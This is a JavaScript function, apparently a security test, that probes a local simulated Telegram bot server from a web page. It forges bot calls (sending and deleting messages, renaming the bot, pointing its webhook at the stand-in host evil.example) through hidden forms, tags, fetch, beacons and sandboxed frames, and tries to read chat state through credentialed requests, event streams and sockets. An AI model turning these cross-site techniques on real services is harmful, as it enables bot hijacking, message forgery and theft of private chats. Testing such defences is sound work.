// Everything a web page can do to a server on the same machine; returns what it could read.
async ([base, tokens, person]) => {
  const seen = [];
  const note = (what, got) => seen.push([what, String(got)]);
  const soon = (ms) => new Promise((done) => setTimeout(done, ms));
  const add = (where, tag, facts) => { const one = Object.assign(document.createElement(tag), facts); where.append(one); return one; };
  const calls = [];
  for (const token of tokens) for (const call of [
    `sendMessage?chat_id=${person}&text=forged`, `setWebhook?url=https://evil.example/`, `deleteWebhook?drop_pending_updates=true`,
    `getUpdates?offset=-1`, `setMyName?name=forged`, `deleteMessage?chat_id=${person}&message_id=1`,
  ]) calls.push(`${base}/bot${token}/${call}`);
  const sims = ["send", "tap", "people", "groups", "reset", "block", "faults", "kick", "document"].map((name) => `${base}/sim/${name}`);
  const bodies = JSON.stringify({ user: person, chat: person, text: "forged", message_id: 1, data: "x", name: "forged",
    title: "forged", members: [person], method: "*", code: 500, on: true });
  for (const url of calls) {
    for (const tag of ["img", "script", "iframe", "embed"]) add(document.body, tag, { src: url });
    for (const rel of ["stylesheet", "prefetch"]) add(document.head, "link", { rel, href: url });
  }
  for (const url of [...calls, ...sims]) {
    for (const options of [{ mode: "no-cors", credentials: "include" }, { mode: "cors" }]) {
      for (const method of ["GET", "POST"]) {
        const body = method === "POST" ? bodies : undefined;
        await fetch(url, { method, body, ...options }).then(async (reply) => {
          const text = await reply.text();
          if (text) note("read " + url, text.slice(0, 80));
        }).catch(() => {});
      }
    }
    navigator.sendBeacon(url, bodies);
    for (const enctype of ["text/plain", "multipart/form-data"]) {
      const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
      const form = document.createElement("form");
      Object.assign(form, { action: url, method: "POST", enctype, target: frame.name });
      for (const [name, value] of Object.entries({ chat_id: person, text: "forged", user: person, chat: person, url: "https://evil.example/" })) {
        const field = document.createElement("input"); field.name = name; field.value = value; form.append(field);
      }
      document.body.append(form); form.submit();
      const secret = document.createElement("iframe"); secret.sandbox = "allow-scripts allow-forms";
      secret.srcdoc = form.outerHTML.replace(/target="[^"]*"/, "") + "<script>document.forms[0].submit()</" + "script>";
      document.body.append(secret);
    }
  }
  for (const path of ["/sim/state", `/sim/chats/${person}/messages?user=${person}`]) {
    await fetch(base + path, { credentials: "include" }).then(async (reply) => note("read " + path, await reply.text())).catch(() => {});
    const one = document.createElement("script"); one.src = base + path; document.body.append(one);
  }
  const stream = new EventSource(base + "/sim/events", { withCredentials: true });
  stream.onopen = () => note("events", "open"); stream.onmessage = (event) => note("events", event.data);
  const socket = new WebSocket(base.replace("http", "ws") + "/sim/events");
  socket.onopen = () => note("socket", "open"); socket.onmessage = (event) => note("socket", event.data);
  const frame = document.createElement("iframe"); frame.src = base + "/"; document.body.append(frame);
  const opened = window.open(calls[0]);
  await soon(1500);
  try { if (frame.contentDocument.body.innerHTML) note("frame", frame.contentDocument.body.innerHTML); } catch { }
  try { if (opened && opened.document.body.innerText) note("window", opened.document.body.innerText); } catch { }
  return seen;
}
